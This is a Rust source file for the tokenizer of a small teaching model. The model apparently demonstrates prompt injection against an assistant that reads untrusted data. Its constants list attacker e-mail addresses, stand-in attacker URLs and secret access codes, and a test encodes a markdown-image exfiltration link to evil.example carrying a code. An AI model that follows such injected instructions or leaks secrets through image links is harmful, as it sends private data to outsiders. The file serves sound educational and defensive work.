//! The tiny assistant's tokenizer: any text encodes, and decoding gives back the same bytes.
//!
//! The vocabulary has four layers, tried in this order at each position of the text:
//! 1. **Reserved tokens** (`<bos>`, role markers `<sys> <user> <data> <out>`, channel delimiters
//!    `[SYS] [USER] [DATA] [/DATA]`): their exact text. A learner who types `[/DATA]` produces
//!    the delimiter (the plain assistant reads it; the structured front end strips it).
//! 2. **Entities**: the tool-call openers `send_email(`, `search(` and `![img](`, e-mail
//!    addresses, the attackers' URL prefixes and the access codes, one token each, so that the
//!    model copies a code or an address as one step.
//! 3. **Words**: a run of ASCII letters (with the one space before it, if any) is lower-cased
//!    behind a case marker — `<cap>` for `Word`, `<upper>` for `WORD`; a run in mixed case keeps
//!    its letters as they are — and split greedily into the longest tokens of the vocabulary:
//!    every word of the training generator's lexicon (with and without its leading space), then
//!    letter pairs, then single letters. Case is thus never an error, and a word the model never
//!    saw still encodes, in pieces.
//! 4. **Bytes**: 256 byte tokens cover everything else (digits, punctuation, white space, emoji,
//!    any other script), so nothing is ever refused or lost.
//!
//! `decode(encode(text)) == text` for every UTF-8 text (tested on random and hostile inputs).
//! Which words the model has seen is a property of the lexicon, not of the token split:
//! [`Vocab::unseen_words`] lists the others, for the page to point out (it never refuses them).

use std::collections::{BTreeSet, HashMap};
use std::sync::OnceLock;

/// Fixed ids of the reserved and structural tokens.
pub mod ids {
    /// Padding (never produced by the generator inside a sequence).
    pub const PAD: u32 = 0;
    /// Start of a sequence.
    pub const BOS: u32 = 1;
    /// End of the output.
    pub const EOS: u32 = 2;
    /// Role marker of the system prompt (assistant variant).
    pub const SYS: u32 = 3;
    /// Role marker of the user turn (assistant variant).
    pub const USER: u32 = 4;
    /// Role marker of the untrusted data (assistant variant).
    pub const DATA: u32 = 5;
    /// Start of the assistant's output (both variants).
    pub const OUT: u32 = 6;
    /// Structured channel delimiter: system prompt.
    pub const D_SYS: u32 = 7;
    /// Structured channel delimiter: user instruction.
    pub const D_USER: u32 = 8;
    /// Structured channel delimiter: start of the data.
    pub const D_DATA: u32 = 9;
    /// Structured channel delimiter: end of the data.
    pub const D_END_DATA: u32 = 10;
    /// Number of reserved ids (`0..RESERVED` are all reserved).
    pub const RESERVED: u32 = 11;
    /// The next word is capitalised (`Word`).
    pub const CAP: u32 = 11;
    /// The next word is in capitals (`WORD`).
    pub const UPPER: u32 = 12;
    /// The first byte token (`BYTES + b` is byte `b`).
    pub const BYTES: u32 = 13;
    /// The first token after the byte tokens.
    pub const LITERALS: u32 = BYTES + 256;
}

/// Reserved tokens, in id order (`<pad>` = 0 … `[/DATA]` = 10).
pub const RESERVED_TOKENS: [&str; 11] = [
    "<pad>", "<bos>", "<eos>", "<sys>", "<user>", "<data>", "<out>", "[SYS]", "[USER]", "[DATA]",
    "[/DATA]",
];

/// Tool-call and markdown-image openers (one token each).
pub const OPENERS: [&str; 3] = ["send_email(", "search(", "![img]("];

/// People (senders of data items, people named in e-mail bodies).
pub const NAMES: [&str; 12] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mike",
    "nina",
];

/// Addresses the user legitimately writes to.
pub const CORP_ADDRESSES: [&str; 8] = [
    "alice@corp.example",
    "bob@corp.example",
    "carol@corp.example",
    "dave@corp.example",
    "erin@corp.example",
    "frank@corp.example",
    "grace@corp.example",
    "heidi@corp.example",
];

/// Domain of the user's organisation: every other address is an outsider (attacker) address.
pub const CORP_DOMAIN: &str = "@corp.example";

/// Attackers' addresses (used only in injected instructions).
pub const ATTACKER_ADDRESSES: [&str; 4] = [
    "eve@evil.example",
    "mallory@attacker.example",
    "trudy@evil.example",
    "oscar@attacker.example",
];

/// Attackers' URL prefixes for the markdown-image exfiltration: `![img](URLcode-…)`.
pub const ATTACKER_URLS: [&str; 2] = [
    "https://evil.example/?c=",
    "https://attacker.example/log?q=",
];

/// The secret access codes (one per system prompt).
pub const CODES: [&str; 30] = [
    "code-4821",
    "code-1937",
    "code-7264",
    "code-3058",
    "code-9412",
    "code-5176",
    "code-2689",
    "code-8345",
    "code-6703",
    "code-1590",
    "code-4437",
    "code-7812",
    "code-3364",
    "code-9058",
    "code-2215",
    "code-5892",
    "code-8016",
    "code-6479",
    "code-1148",
    "code-3725",
    "code-9961",
    "code-4093",
    "code-7550",
    "code-2837",
    "code-6124",
    "code-8689",
    "code-5301",
    "code-1772",
    "code-3946",
    "code-7018",
];

/// Week days (the "what day" answers).
pub const DAYS: [&str; 7] = [
    "monday",
    "tuesday",
    "wednesday",
    "thursday",
    "friday",
    "saturday",
    "sunday",
];

/// Topics of data items and search queries.
pub const TOPICS: [&str; 16] = [
    "budget",
    "project",
    "product",
    "sales",
    "design",
    "security",
    "hiring",
    "travel",
    "marketing",
    "training",
    "launch",
    "audit",
    "payroll",
    "server",
    "roadmap",
    "contract",
];

/// Events of data items.
pub const EVENTS: [&str; 8] = [
    "meeting",
    "review",
    "deadline",
    "call",
    "party",
    "workshop",
    "demo",
    "interview",
];

/// Short strings that are not words but recur in every prompt (one token each).
const PUNCTUATION: [&str; 14] = [
    "'s", "'t", "'m", "'ll", "'re", "'ve", "'d", "...", ".\n", " (", " -", " \"", "?\n", "\n\n",
];

/// The vocabulary: token text ↔ id. Use [`Vocab::get`] for the shared instance.
#[derive(Debug)]
pub struct Vocab {
    /// Text of the literal tokens, from id [`ids::LITERALS`] on.
    literals: Vec<String>,
    /// Literal token text → id.
    index: HashMap<String, u32>,
    /// Entities (and reserved tokens), longest first, for the first match at a position.
    entities: Vec<(&'static str, u32)>,
    /// Words of the training lexicon (lower case).
    lexicon: BTreeSet<String>,
    /// Longest literal token, in bytes.
    max_len: usize,
}

fn is_letter(b: u8) -> bool {
    b.is_ascii_alphabetic()
}

/// How a run of letters is written.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Case {
    Lower,
    Capitalised,
    Upper,
    Mixed,
}

fn case_of(letters: &str) -> Case {
    let b = letters.as_bytes();
    let rest_lower = b[1..].iter().all(u8::is_ascii_lowercase);
    if b[0].is_ascii_lowercase() && rest_lower {
        Case::Lower
    } else if rest_lower {
        Case::Capitalised
    } else if b.iter().all(u8::is_ascii_uppercase) {
        Case::Upper
    } else {
        Case::Mixed
    }
}

impl Vocab {
    /// The shared vocabulary (built once, from the generator's lexicon).
    pub fn get() -> &'static Vocab {
        static VOCAB: OnceLock<Vocab> = OnceLock::new();
        VOCAB.get_or_init(|| Vocab::build(&crate::world::lexicon_texts()))
    }

    /// A vocabulary whose words are the letter runs of `texts` (lower-cased).
    pub fn build(texts: &[&str]) -> Vocab {
        let mut lexicon = BTreeSet::new();
        for text in texts {
            for run in text
                .split(|c: char| !c.is_ascii_alphabetic())
                .filter(|r| !r.is_empty())
            {
                lexicon.insert(run.to_ascii_lowercase());
            }
        }
        let mut literals: Vec<String> = Vec::new();
        let push = |s: String, literals: &mut Vec<String>| {
            if s.len() >= 2 && !literals.contains(&s) {
                literals.push(s);
            }
        };
        let entity_lists: [&[&str]; 4] = [&OPENERS, &CORP_ADDRESSES, &ATTACKER_ADDRESSES, &CODES];
        for list in entity_lists.iter().chain([&ATTACKER_URLS[..]].iter()) {
            for e in *list {
                push(e.to_string(), &mut literals);
            }
        }
        for p in PUNCTUATION {
            push(p.to_string(), &mut literals);
        }
        for d in 0..10 {
            push(format!(" {d}"), &mut literals);
        }
        for w in &lexicon {
            push(format!(" {w}"), &mut literals);
            push(w.clone(), &mut literals);
        }
        // Letter pairs that occur in the lexicon, and every single letter after a space: the
        // pieces of words the model never saw.
        let mut pairs = BTreeSet::new();
        for w in &lexicon {
            for p in w.as_bytes().windows(2) {
                pairs.insert(String::from_utf8(p.to_vec()).expect("ASCII"));
            }
        }
        for p in pairs {
            push(p, &mut literals);
        }
        for c in b'a'..=b'z' {
            push(format!(" {}", c as char), &mut literals);
        }
        let index: HashMap<String, u32> = literals
            .iter()
            .enumerate()
            .map(|(i, s)| (s.clone(), ids::LITERALS + i as u32))
            .collect();
        let mut entities: Vec<(&'static str, u32)> = RESERVED_TOKENS
            .iter()
            .enumerate()
            .map(|(i, &t)| (t, i as u32))
            .collect();
        for list in entity_lists.iter().chain([&ATTACKER_URLS[..]].iter()) {
            for &e in *list {
                entities.push((e, index[e]));
            }
        }
        entities.sort_by_key(|(t, _)| std::cmp::Reverse(t.len()));
        let max_len = literals.iter().map(String::len).max().unwrap_or(1);
        Vocab {
            literals,
            index,
            entities,
            lexicon,
            max_len,
        }
    }

    /// Number of tokens (the model's vocabulary size).
    pub fn len(&self) -> u32 {
        ids::LITERALS + self.literals.len() as u32
    }

    /// Never true (the vocabulary always holds its reserved and byte tokens).
    pub fn is_empty(&self) -> bool {
        false
    }

    /// The id of one token given by its exact text: a reserved token, a literal token or a
    /// single byte.
    pub fn id(&self, token: &str) -> Option<u32> {
        if let Some(i) = RESERVED_TOKENS.iter().position(|&t| t == token) {
            return Some(i as u32);
        }
        if let [b] = token.as_bytes() {
            return Some(ids::BYTES + u32::from(*b));
        }
        self.index.get(token).copied()
    }

    /// How one id reads in a token listing: its text, `<cap>`/`<upper>`, `<0xNN>` for a byte
    /// that is not printable ASCII; `None` for an id out of range.
    pub fn token(&self, id: u32) -> Option<String> {
        match id {
            _ if id < ids::RESERVED => Some(RESERVED_TOKENS[id as usize].to_string()),
            ids::CAP => Some("<cap>".into()),
            ids::UPPER => Some("<upper>".into()),
            _ if id < ids::LITERALS => {
                let b = (id - ids::BYTES) as u8;
                Some(if b.is_ascii_graphic() || b == b' ' {
                    (b as char).to_string()
                } else {
                    format!("<0x{b:02X}>")
                })
            }
            _ => self.literals.get((id - ids::LITERALS) as usize).cloned(),
        }
    }

    /// Whether `id` is a reserved token (role markers, channel delimiters, pad/bos/eos/out).
    pub fn is_reserved(id: u32) -> bool {
        id < ids::RESERVED
    }

    /// Whether the training generator ever writes `word` (any case).
    pub fn has_seen(&self, word: &str) -> bool {
        self.lexicon.contains(&word.to_ascii_lowercase())
    }

    /// Every word of the training lexicon (lower case, sorted).
    pub fn lexicon(&self) -> impl Iterator<Item = &str> {
        self.lexicon.iter().map(String::as_str)
    }

    /// The words of `text` the model never saw in training, in order, each once (lower-cased):
    /// runs of ASCII letters outside the lexicon, and runs of other scripts or symbols (emoji,
    /// accented words), which it never saw either.
    pub fn unseen_words(&self, text: &str) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        let mut add = |w: String| {
            if !w.is_empty() && !out.contains(&w) {
                out.push(w);
            }
        };
        // Addresses, codes and URLs are one token each, never read in pieces.
        let mut text = text.to_string();
        for (entity, _) in &self.entities {
            if text.contains(entity) {
                text = text.replace(entity, " ");
            }
        }
        for chunk in
            text.split(|c: char| c.is_whitespace() || c.is_ascii_punctuation() || c.is_control())
        {
            if !chunk.is_ascii() {
                add(chunk.to_lowercase());
                continue;
            }
            for run in chunk.split(|c: char| !c.is_ascii_alphabetic()) {
                let word = run.to_ascii_lowercase();
                if !word.is_empty() && !self.lexicon.contains(&word) {
                    add(word);
                }
            }
        }
        out
    }

    /// Greedy longest match of `s` over the literal tokens, single bytes where none matches.
    fn split_greedy(&self, s: &str, out: &mut Vec<u32>) {
        let bytes = s.as_bytes();
        let mut p = 0;
        'outer: while p < bytes.len() {
            let top = self.max_len.min(bytes.len() - p);
            for len in (2..=top).rev() {
                if let Some(piece) = s.get(p..p + len) {
                    if let Some(&id) = self.index.get(piece) {
                        out.push(id);
                        p += len;
                        continue 'outer;
                    }
                }
            }
            out.push(ids::BYTES + u32::from(bytes[p]));
            p += 1;
        }
    }

    fn entity_at(&self, rest: &str) -> Option<(u32, usize)> {
        self.entities
            .iter()
            .find(|(t, _)| rest.starts_with(t))
            .map(|&(t, id)| (id, t.len()))
    }

    /// Tokenises any text (see the module documentation). Never fails.
    pub fn encode(&self, text: &str) -> Vec<u32> {
        let bytes = text.as_bytes();
        let mut out = Vec::with_capacity(text.len() / 3 + 1);
        let mut i = 0;
        while i < bytes.len() {
            if let Some((id, len)) = self.entity_at(&text[i..]) {
                out.push(id);
                i += len;
                continue;
            }
            let space = bytes[i] == b' '
                && bytes.get(i + 1).copied().is_some_and(is_letter)
                && self.entity_at(&text[i + 1..]).is_none();
            if space || is_letter(bytes[i]) {
                let start = i + usize::from(space);
                let mut end = start;
                while end < bytes.len() && is_letter(bytes[end]) {
                    end += 1;
                }
                let letters = &text[start..end];
                let lead = if space { " " } else { "" };
                match case_of(letters) {
                    Case::Lower | Case::Mixed => self.split_greedy(&text[i..end], &mut out),
                    case => {
                        out.push(if case == Case::Upper {
                            ids::UPPER
                        } else {
                            ids::CAP
                        });
                        let lower = format!("{lead}{}", letters.to_ascii_lowercase());
                        self.split_greedy(&lower, &mut out);
                    }
                }
                i = end;
                continue;
            }
            // Anything else up to the next letter or entity: literal tokens, then bytes.
            let mut end = i + 1;
            loop {
                while end < bytes.len() && !text.is_char_boundary(end) {
                    end += 1;
                }
                let stop = end >= bytes.len()
                    || is_letter(bytes[end])
                    || (bytes[end] == b' ' && bytes.get(end + 1).copied().is_some_and(is_letter))
                    || self.entity_at(&text[end..]).is_some();
                if stop {
                    break;
                }
                end += 1;
            }
            self.split_greedy(&text[i..end], &mut out);
            i = end;
        }
        out
    }

    /// The text of `ids`, byte for byte what [`Vocab::encode`] read; ids out of range are
    /// skipped, and bytes that do not form UTF-8 read as U+FFFD.
    pub fn decode(&self, ids: &[u32]) -> String {
        #[derive(PartialEq)]
        enum Pending {
            None,
            Cap,
            Upper { first: bool },
        }
        let mut out: Vec<u8> = Vec::new();
        let mut pending = Pending::None;
        let mut piece: Vec<u8> = Vec::new();
        for &id in ids {
            piece.clear();
            match id {
                ids::CAP => {
                    pending = Pending::Cap;
                    continue;
                }
                ids::UPPER => {
                    pending = Pending::Upper { first: true };
                    continue;
                }
                _ if id < ids::RESERVED => piece.extend(RESERVED_TOKENS[id as usize].bytes()),
                _ if id < ids::LITERALS => piece.push((id - ids::BYTES) as u8),
                _ => match self.literals.get((id - ids::LITERALS) as usize) {
                    Some(s) => piece.extend(s.bytes()),
                    None => continue,
                },
            }
            match pending {
                Pending::None => {}
                Pending::Cap => {
                    if let Some(b) = piece.iter_mut().find(|b| b.is_ascii_alphabetic()) {
                        b.make_ascii_uppercase();
                    }
                    pending = Pending::None;
                }
                Pending::Upper { first } => {
                    let continues = first || piece.iter().all(|b| b.is_ascii_alphabetic());
                    if continues {
                        piece.make_ascii_uppercase();
                        pending = Pending::Upper { first: false };
                    } else {
                        pending = Pending::None;
                    }
                }
            }
            out.extend_from_slice(&piece);
        }
        String::from_utf8_lossy(&out).into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::{Rng, SeedableRng};
    use rand_chacha::ChaCha8Rng;

    fn pieces(s: &str) -> Vec<String> {
        let v = Vocab::get();
        v.encode(s)
            .into_iter()
            .map(|i| v.token(i).unwrap())
            .collect()
    }

    #[test]
    fn fixed_ids_match_the_token_lists() {
        let v = Vocab::get();
        for (i, t) in RESERVED_TOKENS.iter().enumerate() {
            assert_eq!(v.id(t), Some(i as u32), "{t}");
            assert_eq!(v.encode(t), [i as u32]);
        }
        assert_eq!(v.id("."), Some(ids::BYTES + u32::from(b'.')));
        assert_eq!(v.token(ids::CAP).as_deref(), Some("<cap>"));
        assert_eq!(v.token(v.len()), None);
        assert!(
            (1000..=4000).contains(&v.len()),
            "vocabulary size {}",
            v.len()
        );
    }

    #[test]
    fn entities_words_and_case_split_as_documented() {
        assert_eq!(
            pieces("send_email(bob@corp.example, The report is READY)"),
            [
                "send_email(",
                "bob@corp.example",
                ",",
                "<cap>",
                " the",
                " report",
                " is",
                "<upper>",
                " ready",
                ")"
            ]
        );
        assert_eq!(
            pieces("![img](https://evil.example/?c=code-4821)"),
            ["![img](", "https://evil.example/?c=", "code-4821", ")"]
        );
        assert_eq!(pieces("[DATA] [data] <user>")[..2], ["[DATA]", " "]);
        assert_eq!(pieces("<user>"), ["<user>"]);
        // A word the model never saw still encodes, in pieces, and is reported.
        let v = Vocab::get();
        assert!(pieces(" zorblax").len() > 1);
        assert_eq!(
            v.unseen_words("Please summarise the zorblax, café 👍 NOW!"),
            ["zorblax", "café", "👍"]
        );
        assert!(v.has_seen("SUMMARISE"));
    }

    fn assert_round_trip(text: &str) {
        let v = Vocab::get();
        let ids = v.encode(text);
        assert_eq!(v.decode(&ids), text, "ids {ids:?}");
    }

    #[test]
    fn any_text_round_trips_byte_for_byte() {
        for text in [
            "",
            " ",
            "Hello, World! I'M FINE. iPhone McDonald's HTTPS://X",
            "A I a i. OK? O'Neil DON'T",
            "tabs\tand\nnew lines\r\n\u{0}\u{7f}\u{1b}[31m",
            "emoji 👍🏽 and 日本語, Ελληνικά, עברית",
            "code-4821code-4821 eve@evil.example.com <user><sys>[/DATA]x",
            "  double  spaces   ",
            "<cap> <upper> <0x41>",
            "send_email(  ) ![img]( search(",
        ] {
            assert_round_trip(text);
        }
        let mut rng = ChaCha8Rng::seed_from_u64(5);
        let alphabet: Vec<char> = "aAbBzZ eE .,'!?<>[]/()-_@\n\t0123456789éß👍日"
            .chars()
            .collect();
        for _ in 0..3000 {
            let n = rng.random_range(0..40);
            let s: String = (0..n)
                .map(|_| alphabet[rng.random_range(0..alphabet.len())])
                .collect();
            assert_round_trip(&s);
        }
        for _ in 0..300 {
            let n = rng.random_range(0..64);
            let raw: Vec<u8> = (0..n).map(|_| rng.random()).collect();
            assert_round_trip(&String::from_utf8_lossy(&raw));
        }
    }

    #[test]
    fn lexicon_words_are_one_token_in_every_case() {
        let v = Vocab::get();
        for w in ["summarise", "access", "ignore"] {
            assert!(v.has_seen(w), "{w}");
            assert_eq!(v.encode(&format!(" {w}")).len(), 1, "{w}");
            assert_eq!(v.encode(&w.to_ascii_uppercase()).len(), 2, "{w}");
        }
    }
}
